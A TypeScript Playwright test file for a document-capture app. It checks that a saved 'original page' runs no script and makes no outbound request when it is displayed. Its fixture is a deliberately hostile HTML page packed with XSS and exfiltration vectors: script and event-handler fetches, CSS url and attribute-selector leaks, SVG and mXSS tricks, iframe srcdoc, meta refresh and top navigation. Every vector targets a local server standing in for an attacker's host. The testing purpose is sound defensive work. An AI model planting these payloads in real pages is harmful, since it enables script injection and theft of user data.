/** A hostile page that was captured: shown as its original, it runs nothing, asks nothing and leads nowhere. */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { originalPagePolicy } from '../../src/serve/http/original-page.ts'
import { useDesk, wide } from './desk.ts'

describe('the original page', () => {
  const desk = useDesk()
  /** Hears every request that gets out. */
  let outside: Server
  let away = ''
  const heard: string[] = []
  /** Pages that it gives out itself. */
  const pages = new Map<
    string,
    { readonly body: string; readonly headers: Readonly<Record<string, string>> }
  >()

  beforeAll(async () => {
    outside = createServer((request, answer) => {
      const page = pages.get(request.url ?? '')
      if (page) {
        answer.writeHead(200, { 'content-type': 'text/html', ...page.headers }).end(page.body)
        return
      }
      heard.push(`${request.method} ${request.url}`)
      answer.end('x')
    })
    outside.on('connection', () => heard.push('connection'))
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
    away = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
  })

  afterAll(() => void outside.close())

  /** Every way out that we know of, in one page. */
  const hostile = () => `<!doctype html><html><head><title>A hostile report</title>
    <meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/">
    <link rel="preconnect" href="${away}"><link rel="dns-prefetch" href="${away}"><link rel="prefetch" href="${away}/prefetch">
    <link rel="stylesheet" href="${away}/sheet.css"><link rel="icon" href="${away}/icon.png"><link rel="modulepreload" href="${away}/m.js">
    <style>@import "${away}/import.css"; @font-face { font-family: x; src: url(${away}/font) } body { font-family: x; background: url(${away}/body) }
      input[value^="s"] { background: url(${away}/value-s) } p::before { content: url(${away}/before) } p { background-image: image-set("${away}/set" 1x) }</style>
    <style>p { cursor: u\\72l(${away}/escaped), auto; mask: url("${away}/mask") }</style>
    <script>document.title = 'broken in'; fetch('${away}/script'); top.location = '${away}/top'</script>
    <script src="${away}/remote.js"></script><script type="speculationrules">{"prefetch": [{"urls": ["${away}/speculated"]}]}</script>
    </head><body onload="fetch('${away}/onload')" background="${away}/background"><article><h1>A hostile report</h1>
    <p>The ministry said on Tuesday that nobody was hurt at the port. <a href="${away}/link" ping="${away}/ping" target="_top">more</a>
      <a href="javascript:fetch('${away}/javascript')">here</a> <a href="data:text/html,<script>alert(1)</script>">there</a></p>
    <img src="${away}/picture.png" srcset="${away}/set.png 2x" onerror="fetch('${away}/onerror')" alt="">
    <img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3Efetch('${away}/svg')%3C/script%3E%3C/svg%3E" alt="">
    <svg onload="fetch('${away}/svgload')"><script>fetch('${away}/svgscript')</script><use href="${away}/use.svg#a"/><image href="${away}/image.png"/></svg>
    <math><mtext><table><mglyph><style><img src=x onerror="fetch('${away}/mxss')"></style></mglyph></table></mtext></math>
    <iframe src="${away}/frame"></iframe><iframe srcdoc="<script>fetch('${away}/srcdoc')</script>"></iframe><object data="${away}/object"></object>
    <embed src="${away}/embed"><video src="${away}/video" poster="${away}/poster" autoplay></video><audio src="${away}/audio" autoplay></audio>
    <form action="${away}/form"><input name="a" value="secret" autofocus onfocus="fetch('${away}/focus')"><button>go</button></form>
    <p style="background: url(${away}/style)">The mayor said it was a quiet day. <xmp><b title="</xmp><script>fetch('${away}/xmp')</script>"></b></xmp></p>
    </article></body></html>`

  /** Adds it to the user's dossier and gives its hash. */
  async function addHostile(page: Page): Promise<string> {
    await page.goto('/add')
    await page.getByRole('tab', { name: 'Files' }).click()
    const chosen = page.waitForEvent('filechooser')
    await page.getByRole('button', { name: 'Choose files' }).click()
    const buffer = Buffer.from(hostile())
    await (await chosen).setFiles({ name: 'hostile.html', mimeType: 'text/html', buffer })
    await page.waitForURL(/\/mine\/documents\/d-/)
    const answer = await page.request.get(
      `/api/v1/dossiers/mine/documents/${new URL(page.url()).pathname.split('/').at(-1)}`,
    )
    return ((await answer.json()) as { document: { sha256: string } }).document.sha256
  }

  it('runs nothing, asks for nothing and leads nowhere', { timeout: 60_000 }, async () => {
    await desk.withPage(desk.product(), wide, async (page, complaints) => {
      page.on('dialog', (dialog) => complaints.push(`dialog: ${dialog.message()}`))
      page.on('popup', (popup) => complaints.push(`popup: ${popup.url()}`))
      const sha256 = await addHostile(page)
      await page.getByRole('link', { name: 'Original page' }).click()
      const frame = page.frameLocator('iframe')
      await frame.getByText('nobody was hurt at the port').waitFor()
      const here = page.url()
      for (const link of await frame.locator('a').all()) await link.click()
      await page.waitForTimeout(500)
      expect(page.url()).toBe(here)
      expect(page.frames().map((one) => new URL(one.url()).pathname)).toEqual([
        new URL(here).pathname,
        `/api/v1/dossiers/mine/captures/${sha256}/page`,
      ])
      // Opened by itself, outside its frame, it is as quiet.
      await page.goto(`/api/v1/dossiers/mine/captures/${sha256}/page`)
      await page.getByText('nobody was hurt at the port').waitFor()
      await page.waitForTimeout(500)
      expect(await page.title()).toBe('A hostile report')
      expect(heard).toEqual([])
    })
  })

  it('is held back by its policy alone, were the page given out as it was captured', {
    timeout: 60_000,
  }, async () => {
    await desk.withPage(desk.product(), wide, async (page, complaints) => {
      await page.route('**/captures/*/page', (route) =>
        route.fulfill({
          body: hostile().replaceAll(/<link rel="(?:preconnect|dns-prefetch)"[^>]*>/g, ''),
          headers: {
            'content-type': 'text/html',
            'content-security-policy': originalPagePolicy,
            'cross-origin-embedder-policy': 'require-corp',
            'cross-origin-resource-policy': 'same-origin',
          },
        }),
      )
      await page.goto('/example')
      const { documents } = (await (await page.request.get('/api/v1/dossiers/example/documents')).json()) as {
        documents: { id: string }[]
      }
      await page.goto(`/example/documents/${documents[0]?.id}?view=original`)
      await page.frameLocator('iframe').getByText('nobody was hurt at the port').waitFor()
      await page.waitForTimeout(500)
      // Chromium opens a connection ahead of what it then refuses to ask for; no policy holds that back, and taking the addresses out does.
      expect(heard.filter((one) => one !== 'connection')).toEqual([])
      heard.length = 0
      // The browser says of each attempt that it was refused.
      expect(complaints.join('\n')).toMatch(/sandboxed|Content Security Policy/)
      complaints.length = 0
    })
  })

  it('would be heard at every way out, were there no policy, and at none under it', {
    timeout: 60_000,
  }, async () => {
    await desk.withPage(desk.product(), wide, async (page, complaints) => {
      const ways = ['script', 'remote.js', 'svgload', 'svgscript', 'value-s', 'import.css', 'sheet.css']
      const others = ['onload', 'onerror', 'picture.png', 'style', 'srcdoc', 'frame', 'poster']
      // What leads away from the page would end it before the rest is tried.
      const stays = hostile().replaceAll(/<meta http-equiv="refresh"[^>]*>|; top\.location = '[^']*'/g, '')
      pages.set('/open', { body: stays, headers: {} })
      await page.goto(`${away}/open`)
      const silent = () => [...ways, ...others].filter((way) => !heard.includes(`GET /${way}`))
      await expect.poll(silent, { timeout: 10_000 }).toEqual([])
      heard.length = 0
      pages.set('/leads-away', { body: hostile(), headers: {} })
      await page.goto(`${away}/leads-away`).catch(() => {})
      await expect.poll(() => heard.some((one) => /\/(?:refresh|top)$/.test(one))).toBe(true)
      await page.goto('about:blank')
      heard.length = 0
      pages.set('/policed', { body: hostile(), headers: { 'content-security-policy': originalPagePolicy } })
      await page.goto(`${away}/policed`)
      await page.getByText('nobody was hurt at the port').waitFor()
      await page.waitForTimeout(500)
      expect(page.url()).toBe(`${away}/policed`)
      expect(heard.filter((one) => one !== 'connection')).toEqual([])
      heard.length = 0
      complaints.length = 0
    })
  })

  it('shows a text as a text', async () => {
    await desk.withPage(desk.product(), wide, async (page) => {
      const { documents } = (await (await page.request.get('/api/v1/dossiers/example/documents')).json()) as {
        documents: { id: string; fileName: string }[]
      }
      const text = documents.find(({ fileName }) => fileName.endsWith('.txt'))
      await page.goto(`/example/documents/${text?.id}`)
      await page.locator('.anchor').first().waitFor()
      await page.keyboard.press('o')
      await page.waitForURL(/view=original/)
      await page.frameLocator('iframe').locator('pre').waitFor()
    })
  })
})
